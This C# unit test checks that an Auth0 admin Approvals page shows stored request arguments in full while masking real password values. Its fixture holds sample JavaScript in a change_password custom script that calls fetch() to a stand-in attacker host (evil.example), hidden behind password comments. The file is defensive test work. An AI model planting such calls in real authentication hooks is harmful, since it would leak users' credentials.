using Auth0Mcp.Admin.Pages.Admin;
using Auth0Mcp.Sdk.Governance;

namespace Auth0Mcp.Admin.Tests;

/// <summary>
/// The Approvals page shows a request's stored arguments through the arguments' view, the rule that made them
/// (docs/security.md): what the request shows is not masked again by the rules for prose.
/// </summary>
public sealed class AdminApprovalArgumentsTests
{
    [Fact]
    public void Arguments_ScriptUnderAPasswordNameAndAPasswordComment_ShownWholeSecretsStayMasked()
    {
        const string Stored = """{"body":{"code":"// password: \"\nfetch('https://evil.example/a');\n// \"","options":{"customScripts":{"change_password":"function changePassword(){ fetch('https://evil.example/b'); }"}}},"id":"con_db"}""";
        const string Secret = """{"body":{"name":"n","password":"PLANTED-pw-0123456789"}}""";

        Assert.Equal(Stored, ApprovalsModel.Arguments(new CallApproval { Arguments = Stored }));
        Assert.Equal("""{"body":{"name":"n","password":"[REDACTED]"}}""", ApprovalsModel.Arguments(new CallApproval { Arguments = Secret }));
    }
}
